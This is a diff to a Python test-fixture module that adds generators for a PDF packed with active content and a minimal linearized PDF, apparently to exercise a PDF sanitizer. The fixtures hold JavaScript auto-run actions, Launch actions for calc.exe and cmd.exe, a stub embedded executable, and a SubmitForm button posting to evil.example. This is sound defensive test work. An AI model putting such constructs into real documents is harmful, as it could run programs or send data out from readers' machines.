@@ -345,3 +345,57 @@ BAD_FILES: dict[str, Callable[[], bytes]] = {
     "flate_bomb": flate_bomb_pdf,
     "self_referencing": self_referencing_pdf,
 }
+
+
+def active_content_pdf(*, signed: bool = False, catalog_extra: bytes = b"") -> bytes:
+    """One page carrying every kind of active content a desktop reader might run.
+
+    JavaScript (OpenAction, document /AA, the /Names tree, a /Next chain to Launch),
+    a page /AA, a Launch link, a SubmitForm button, an embedded file and a FileAttachment
+    annotation, an XFA form; plus a URI link and a GoTo link, which are not active.
+    ``signed`` sets /SigFlags 3 (a signed file is served as uploaded when it is clean).
+    """
+    sig = b" /SigFlags 3" if signed else b""
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 6 0 R >>"
+        b" /Names << /JavaScript << /Names [(a) 6 0 R] >>"
+        b" /EmbeddedFiles << /Names [(x) 7 0 R] >> >>"
+        b" /AcroForm << /Fields [9 0 R] /XFA 10 0 R%s >>%s >>" % (sig, catalog_extra),
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792]"
+        b" /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R /AA << /O 6 0 R >>"
+        b" /Annots [8 0 R 9 0 R 11 0 R 14 0 R 15 0 R] >>",
+        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
+        _stream(b"BT /F1 18 Tf 72 720 Td (%s) Tj ET" % _escape(page_text(1))),
+        b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) /Next 12 0 R >>",
+        b"<< /Type /Filespec /F (x.exe) /UF (x.exe) /EF << /F 13 0 R >> >>",
+        b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /Launch /F (calc.exe) >> >>",
+        b"<< /Type /Annot /Subtype /Widget /FT /Btn /T (send) /Rect [0 700 50 720] /P 3 0 R"
+        b" /A << /S /SubmitForm /F << /FS /URL /F (http://evil.example/) >> >> >>",
+        _stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'></xdp:xdp>"),
+        b"<< /Type /Annot /Subtype /FileAttachment /Rect [200 200 220 220] /FS 7 0 R >>",
+        b"<< /Type /Action /S /Launch /F (cmd.exe) >>",
+        _stream(b"MZ not really a program", b" /Type /EmbeddedFile"),
+        b"<< /Type /Annot /Subtype /Link /Rect [300 300 400 320]"
+        b" /A << /S /URI /URI (https://hdnd.example.gov.vn/) >> >>",
+        b"<< /Type /Annot /Subtype /Link /Rect [300 340 400 360]"
+        b" /A << /S /GoTo /D [3 0 R /Fit] >> >>",
+    ]
+    return assemble(objects)
+
+
+def linearized_pdf() -> bytes:
+    """A (minimal) linearized file: its first object is the linearization dictionary, whose
+    /L is the file's length. (Hint tables omitted: only the marker is checked.)"""
+    placeholder = b"<< /Linearized 1 /L 0000000000 /N 1 /O 4 /E 0 /T 0 /H [0 0] >>"
+    objects = [
+        placeholder,
+        b"<< /Type /Catalog /Pages 3 0 R >>",
+        b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 3 0 R /MediaBox [0 0 612 792]"
+        b" /Resources << /Font << /F1 5 0 R >> >> /Contents 6 0 R >>",
+        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
+        _stream(b"BT /F1 18 Tf 72 720 Td (%s) Tj ET" % _escape(page_text(1))),
+    ]
+    data = assemble(objects, root=2)
+    return data.replace(b"/L 0000000000", b"/L %010d" % len(data), 1)
